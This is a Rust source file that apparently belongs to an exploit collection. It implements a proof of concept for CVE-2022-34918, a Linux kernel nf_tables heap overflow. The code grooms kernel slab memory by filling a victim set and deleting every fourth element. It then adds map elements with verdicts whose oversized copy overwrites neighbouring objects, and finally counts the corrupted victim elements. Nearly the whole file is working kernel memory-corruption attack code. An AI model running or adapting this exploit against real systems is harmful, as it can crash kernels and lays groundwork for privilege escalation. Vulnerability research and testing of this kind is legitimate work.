//! CVE-2022-34918: an element of a map from keys to values that has a verdict instead. There is
//! room for a verdict, but as many bytes are copied as the map's values have.

use std::{collections::BTreeSet, io, thread, time::Duration};

use crate::{attribute::Attributes, netlink::Batch, nft};

const TABLE: &str = "otf_setelem";
const VICTIMS: &str = "victims";
const MAP: &str = "map";
/// Elements that see what happens. Some slabs of them, each element 48 of 64 bytes.
const COUNT: u32 = 320;
/// One in so many is deleted again: there the elements of the attack go.
const HOLE: u32 = 4;
/// Bytes of a value; the verdict's 16 are at the end of a 64 byte object. With more than this the
/// link between free objects were hit too, and the kernel would not live to tell.
const VALUE: u32 = 48;
/// User data of the elements that see what happens.
const NOTE: &[u8] = b"whole";
/// More than there are holes, as a CPU has some free places elsewhere.
const ATTACKS: u32 = 160;

/// A set with many elements and holes between them in memory, and an empty map.
pub fn setup() -> io::Result<()> {
    // With a size they are hashes of that size: these survive elements that lost their links.
    let size = Attributes::new().number(1, COUNT);
    let victims = nft::set(TABLE, VICTIMS, 0, 16, 1).nest(9, &size);
    let map = nft::set(TABLE, MAP, nft::SET_MAP, 12, 2)
        .number(6, 0)
        .number(7, VALUE)
        .nest(9, &size);
    let create = libc::NFT_MSG_NEWSET;
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .add(create, nft::IP, nft::CREATE, &victims)
        .add(create, nft::IP, nft::CREATE, &map)
        .send()?;
    change(libc::NFT_MSG_NEWSETELEM, |_| true)?;
    change(libc::NFT_MSG_DELSETELEM, |n| n % HOLE == 0)?;
    // What is deleted is freed a little later.
    thread::sleep(Duration::from_millis(500));
    Ok(())
}

/// Elements whose values do not fit: the last 32 bytes of each end up in the object behind it.
pub fn attack() -> io::Result<()> {
    let mut last = Ok(());
    for n in 0..ATTACKS {
        let mut key = [0; 12];
        key[..4].copy_from_slice(&n.to_be_bytes());
        let element = nft::element(&key).nest(2, &nft::verdict(nft::ACCEPT, None));
        last = Batch::new()
            .add(
                libc::NFT_MSG_NEWSETELEM,
                nft::IP,
                nft::CREATE,
                &nft::elements(TABLE, MAP, &[element]),
            )
            .send();
    }
    last
}

/// Says which elements of the other set are not there any more as they were.
pub fn harm() -> io::Result<()> {
    let found: BTreeSet<_> = nft::held(TABLE, VICTIMS)?
        .into_iter()
        // The last bytes of the copy hit where an element says that it has this.
        .filter(|(_, note)| note == NOTE)
        .map(|(key, _)| key)
        .collect();
    let wanted = (0..COUNT).filter(|n| n % HOLE != 0);
    let lost = wanted.clone().filter(|n| !found.contains(&key(*n)[..]));
    match lost.count() {
        0 => Err(io::Error::other("all elements of the other set are intact")),
        lost => {
            println!(
                "{lost} of {} elements of another set changed",
                wanted.count()
            );
            Ok(())
        }
    }
}

fn change(kind: i32, chosen: impl Fn(u32) -> bool) -> io::Result<()> {
    let elements: Vec<_> = (0..COUNT)
        .filter(|n| chosen(*n))
        .map(|n| nft::element(&key(n)).bytes(6, NOTE))
        .collect();
    let elements = nft::elements(TABLE, VICTIMS, &elements);
    Batch::new()
        .add(kind, nft::IP, nft::CREATE, &elements)
        .send()
}

fn key(n: u32) -> [u8; 16] {
    let mut key = [0x5a; 16];
    key[..4].copy_from_slice(&n.to_be_bytes());
    key
}
